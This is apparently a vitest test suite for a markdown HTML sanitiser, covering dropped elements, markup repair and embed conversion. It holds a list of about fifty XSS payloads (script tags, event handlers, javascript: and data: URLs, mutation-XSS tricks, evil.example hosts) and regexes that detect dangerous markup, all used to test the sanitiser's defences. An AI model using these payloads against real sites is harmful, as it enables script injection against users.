import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Rules, sanitise } from '../../../src/content/markdown/sanitise.js'

const address = (value: string): string | undefined =>
  /^https?:\/\//.test(value) && URL.canParse(value) ? new URL(value).href : undefined
const RULES: Rules = {
  address,
  image: attributes => {
    const src = address(attributes['src'] ?? '')
    return src ? { ...attributes, src, alt: attributes['alt'] ?? '' } : (attributes['alt'] ?? '')
  },
}
const clean = (html: string): string => sanitise(html, RULES)

/** All tags without their quoted values: text and titles may contain `onclick=`, but tags may not. */
const tagsOf = (html: string): string[] => (html.match(/<[^>]*>/g) ?? []).map(tag => tag.replace(/"[^"]*"/g, '""'))
const DANGER =
  /\son\w+\s*=|<\/?(?:script|style|iframe|object|embed|form|input|button|meta|link|base|svg|math|template|textarea|select)\b|\sstyle=/i
const SCHEME = /<[^>]*\s(?:href|src|srcset|poster|cite)="\s*(?:javascript|vbscript|data):/i

function expectHarmless(html: string): void {
  for (const tag of tagsOf(html)) expect(tag).not.toMatch(DANGER)
  expect(html).not.toMatch(SCHEME)
}

describe('sanitising', () => {
  it.each<[html: string, clean: string, dropped: string[]]>([
    ['a<iframe srcdoc="b">c</iframe>', 'a', ['iframe']],
    ['a<embed type="x/y">', 'a', ['embed']],
    ['<object>a</object>', 'a', ['object']],
    ['<map name="m"><area href="https://a.example/" alt="a"></map>b', 'b', ['area']],
    ['<map name="m"><area alt="a"></map>b', 'b', []],
    ['a <input value="b">', 'a ', ['input']],
    ['a<input type="hidden" value="b">', 'a', []],
    ['<form>a <input value="b"></form>', 'a ', ['form']],
    [
      '<li><input type="checkbox" checked disabled> a</li><li><input type=checkbox> b</li>',
      '<li>☑ a</li><li>☐ b</li>',
      [],
    ],
  ])('tells what it drops of %s', (html, expected, names) => {
    const dropped: string[] = []
    expect([sanitise(html, { ...RULES, dropped: name => dropped.push(name) }), dropped]).toEqual([expected, names])
  })

  const attacks = [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<img src=`x`onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style><style /><img src=x onerror=alert(1)></style>',
    '<template><script>alert(1)</script></template>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
    '<video poster="javascript:alert(1)" src="data:video/mp4,x"></video>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,x">',
    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<base href="https://evil.example/">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style=x:expression(alert(1))>x</div>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<x onclick=alert(1)>x</x>',
    '<p title="x" onmouseover=alert(1)>x</p>',
    '<!--><script>alert(1)</script>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<a href="https://x.example" title=\'"><script>alert(1)</script>\'>x</a>',
    '<img alt="</p><script>alert(1)</script>" src="https://x.example/a.png">',
    '<mj-raw><script>alert(1)</script></mj-raw></mj-text>',
    '<plaintext><script>alert(1)</script>',
  ]
  it.each(attacks)('disarms %s', attack => {
    const html = clean(attack)
    expectHarmless(html)
    expect(html).not.toMatch(/mj-/)
    expect(clean(html)).toBe(html)
  })

  const kept: [what: string, html: string][] = [
    [
      'a figure',
      '<figure class="wide" id="a"><img src="https://x.example/a.png" alt="A" width="3" height="2" /><figcaption>B</figcaption></figure>',
    ],
    [
      'a table',
      '<table><caption>C</caption><thead><tr><th scope="col" align="right">A</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    ],
    [
      'inline elements',
      '<p><em>a</em> <strong>b</strong> <code>c</code> <kbd>d</kbd> <sub>e</sub><sup>f</sup> <mark>g</mark> <del>h</del> <ins>i</ins> <abbr title="J">j</abbr> <q>k</q></p>',
    ],
    ['details', '<details open><summary>S</summary><p>p</p></details>'],
    ['lists', '<ol start="3" reversed><li value="3">a<ul><li>b</li></ul></li></ol><dl><dt>t</dt><dd>d</dd></dl>'],
    ['ruby', '<p><ruby>東<rp>(</rp><rt>とう</rt><rp>)</rp></ruby></p>'],
    ['other writing directions', '<p lang="ar" dir="rtl">نهر <bdi>x</bdi></p>'],
    ['time', '<p><time datetime="2026-03-14">14 March</time></p>'],
    [
      'video',
      '<video src="https://x.example/v.mp4" controls><track src="https://x.example/v.vtt" kind="captions" /></video>',
    ],
    [
      'pictures',
      '<picture><source srcset="https://x.example/a.webp 1x, https://x.example/b.webp 2x" type="image/webp" /><img src="https://x.example/a.png" alt="" /></picture>',
    ],
  ]
  it.each(kept)('keeps %s', (_, html) => {
    expect(clean(html)).toBe(html)
  })

  const mended: [what: string, html: string, result: string][] = [
    ['a block inside a paragraph', '<p>a<div>b</div>c</p>', '<p>a</p><div>b</div>c'],
    ['a block inside inline inside a paragraph', '<p><span>a<div>b</div></span></p>', '<p><span>ab</span></p>'],
    [
      'a link inside a link',
      '<a href="https://x.example/">a<a href="https://y.example/">b</a></a>',
      '<a href="https://x.example/">a</a><a href="https://y.example/">b</a>',
    ],
    ['misnested tags', '<em><b>x</em></b>', '<em><b>x</b></em>'],
    ['unclosed tags', '<div><span>x', '<div><span>x</span></div>'],
    ['stray end tags', 'x</div></p></table>', 'x'],
    ['a heading inside a heading', '<h2>a<h3>b</h3></h2>', '<h2>ab</h2>'],
    [
      'text inside a table',
      '<table>a<tr>b<td>c</td></tr></table>',
      '<table><tr><td>a</td></tr><tr><td>b</td><td>c</td></tr></table>',
    ],
    ['cells without a table', '<tr><td>x</td></tr>', 'x'],
    ['an item inside an item', '<ul><li>a<p>b<li>c</p></ul>', '<ul><li>a<p>bc</p></li></ul>'],
    [
      'obsolete elements',
      '<center><tt>a</tt><strike>b</strike><font color=red>c</font></center>',
      '<div><code>a</code><s>b</s>c</div>',
    ],
    ['a top heading', '<h1>a</h1>', '<h2>a</h2>'],
    ['a repeated id', '<p id="a">x</p><p id="a">y</p>', '<p id="a">x</p><p>y</p>'],
    ['comments', 'a<!-- b -->c', 'ac'],
    ['ampersands', 'AT&T &copy; &unknown; <3', 'AT&amp;T © &amp;unknown; &lt;3'],
    ['references to forbidden characters', 'a&#0;b&#xFFFE;c&#1;d&#xD800;e', 'abcde'],
    ['Windows references', '&#147;x&#148;', '“x”'],
    ['paragraph tags with a slash', 'a<p/>b<br/>c<p/>d', 'a<p>b<br />c</p><p>d</p>'],
    ['self-closed elements', '<b/>a<span id="s"/>b<div/>c', '<b></b>a<span id="s"></span>b<div></div>c'],
    ['a self-closed element without quotation marks', '<i class=pin/>a<b>b</b>', '<i class="pin"></i>a<b>b</b>'],
    [
      'an address without quotation marks that ends with a slash',
      '<a href=https://x.example/>a</a>b',
      '<a href="https://x.example/">a</a>b',
    ],
    ['a self-closed script', '<script src="x.js"/>a<style/>b<textarea/>c<title/>d', 'abcd'],
    ['unclosed elements that would be removed with their content', 'a<title>b<select><option>c<svg>d<xmp>e', 'abcde'],
    ['an unclosed element beside a closed one', '<svg><svg></svg>a</svg>b<svg>c', 'bc'],
    ['a script that writes another', `<script>w('<script src="a"><\\/script>')</script>a`, 'a'],
    [
      'an unclosed link around a block',
      '<a href="https://x.example/"><div>a <a href="https://y.example/">b</a> c</div></a>',
      '<div><a href="https://x.example/">a </a><a href="https://y.example/">b</a> c</div>',
    ],
    ['an unclosed link without words', '<a href="https://x.example/"><p></p>a', 'a'],
    ['a link without words', '<p>a<a href="https://x.example/" title="t"> </a>b</p>', '<p>ab</p>'],
    [
      'a link without words that is a target',
      '<p><a id="t" href="https://x.example/"></a>a</p>',
      '<p><a id="t"></a>a</p>',
    ],
    [
      'a linked picture without a description',
      '<a href="https://www.x.example/a?b"><img src="https://x.example/a.png" alt=""></a>',
      '<a href="https://www.x.example/a?b"><img src="https://x.example/a.png" alt="x.example" /></a>',
    ],
    [
      'a linked picture without a description beside words',
      '<a href="https://x.example/"><img src="https://x.example/a.png" alt=""> a</a>',
      '<a href="https://x.example/"><img src="https://x.example/a.png" alt="" /> a</a>',
    ],
    ['a summary without words', '<details><summary> </summary>a</details>', '<details>a</details>'],
    [
      'a language that does not exist',
      '<p lang="zz">a <span lang="de-AT">b</span></p>',
      '<p>a <span lang="de-AT">b</span></p>',
    ],
    ['a language that is no tag', '<p lang="$%">a</p>', '<p>a</p>'],
    ['a comment with a link in it', 'a<!-- <a name=x> -->b', 'ab'],
    [
      'an embedded page',
      '<iframe width=1 src="https://video.example/1?a=1&amp;b=2" title="A film"></iframe>',
      '<p><a href="https://video.example/1?a=1&amp;b=2">A film</a></p>',
    ],
    [
      'code that a script embeds from another site',
      '<script src="https://gist.github.com/jane/12ab.js"></script>',
      '<p><a href="https://gist.github.com/jane/12ab">https://gist.github.com/jane/12ab</a></p>',
    ],
    ['code of PHP', '<pre><?php echo 1; ?></pre>', '<pre>&lt;?php echo 1; ?&gt;</pre>'],
    [
      'an embedded page without a title',
      '<iframe src="//video.example/1"></iframe>',
      '<p><a>//video.example/1</a></p>',
    ],
    ['an image that cannot be shown', '<p><img alt="A &quot;map&quot; &amp; more"></p>', '<p>A "map" &amp; more</p>'],
  ]
  it.each(mended)('mends %s', (_, html, result) => {
    expect(clean(html)).toBe(result)
  })

  it('reports the elements that were removed with their content', () => {
    const dropped: string[] = []
    clean('x')
    sanitise('<script>x</script><p>y</p><svg></svg>', { ...RULES, dropped: name => dropped.push(name) })
    expect(dropped).toEqual(['script', 'svg'])
  })

  const word = fc.constantFrom(
    ...'p div span a b em li ul ol table tr td th tbody caption h1 h2 script style svg math img iframe form input br hr details summary figure figcaption ruby rt dl dt dd pre code blockquote select option textarea template title noscript xmp plaintext video source object embed foo-bar'.split(
      ' ',
    ),
  )
  const attribute = fc.constantFrom(
    '',
    ' href="javascript:alert(1)"',
    ' href="https://x.example/?a=1&b=2"',
    ' onclick=alert(1)',
    ' id=a',
    ' src="https://x.example/a.png"',
    ' style="x"',
    ' title="<b>&quot;"',
    " alt='\">'",
    ' a"b=1',
    ' =x',
  )
  const piece = fc.oneof(
    fc.tuple(word, attribute).map(([name, attributes]) => `<${name}${attributes}>`),
    word.map(name => `</${name}>`),
    fc.constantFrom('x', '&', '<', '&lt;', '&#1;', '&amp', '<!--', '-->', '<![CDATA[', ']]>', '"', "'", '\n\n'),
    fc.string({ maxLength: 4 }),
  )

  it('changes nothing when repeated and never lets dangerous HTML through, whatever the input', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), pieces => {
        const html = clean(pieces.join('').replace(/[\0-\x08\x0B\x0C\x0E-\x1F\x7F-\x9F]/g, ''))
        expect(clean(html)).toBe(html)
        expectHarmless(html)
      }),
      { numRuns: 500 },
    )
  })
})

describe('players and posts of other sites', () => {
  const cases: [source: string, result: string][] = [
    [
      '<lite-youtube videoid="aB3dE6gH9kL" playlabel="Low water"></lite-youtube>',
      '<p><a href="https://www.youtube.com/watch?v=aB3dE6gH9kL">Low water</a></p>',
    ],
    [
      '<lite-vimeo videoid="123456"><button>Play</button></lite-vimeo>',
      '<p><a href="https://vimeo.com/123456">https://vimeo.com/123456</a></p>',
    ],
    [
      '<amp-youtube data-videoid="aB3dE6gH9kL" layout="responsive"></amp-youtube>',
      '<p><a href="https://www.youtube.com/watch?v=aB3dE6gH9kL">https://www.youtube.com/watch?v=aB3dE6gH9kL</a></p>',
    ],
    ['<amp-img src="https://x.example/a.png" alt="a"></amp-img>', '<img src="https://x.example/a.png" alt="a" />'],
    [
      '<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/Qw12/"></blockquote>',
      '<blockquote class="instagram-media"><p><a href="https://www.instagram.com/p/Qw12/">https://www.instagram.com/p/Qw12/</a></p></blockquote>',
    ],
    [
      '<blockquote class="bluesky-embed" data-bluesky-uri="at://did:plc:a/app.bsky.feed.post/3k"><p>a</p></blockquote>',
      '<blockquote class="bluesky-embed"><p>a</p><p><a href="https://bsky.app/profile/did:plc:a/post/3k">https://bsky.app/profile/did:plc:a/post/3k</a></p></blockquote>',
    ],
    [
      '<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@a/video/1"><a href="https://www.tiktok.com/@a">@a</a></blockquote>',
      '<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@a/video/1"><a href="https://www.tiktok.com/@a">@a</a></blockquote>',
    ],
    [
      '<p class="codepen" data-slug-hash="abc" data-user="me">See the Pen</p>',
      '<p class="codepen">See the Pen <a href="https://codepen.io/me/pen/abc">https://codepen.io/me/pen/abc</a></p>',
    ],
    [
      '<img class="lazyload" data-src="https://x.example/a.png" alt="a"><noscript><img src="https://x.example/a.png"></noscript>',
      '<img class="lazyload" alt="a" src="https://x.example/a.png" />',
    ],
    [
      '<img data-srcset="https://x.example/a.png 1x, https://x.example/b.png 2x" alt="a">',
      '<img alt="a" src="https://x.example/a.png" />',
    ],
    [
      '<picture><source srcset="gone.webp"><img src="https://x.example/a.png" alt="a"></picture>',
      '<picture><img src="https://x.example/a.png" alt="a" /></picture>',
    ],
    ['<form><p>a</p><label>b</label><input><button>c</button></form>', '<p>a</p>'],
  ]
  it.each(cases)('%s', (source, result) => {
    expect(clean(source)).toBe(result)
  })
})
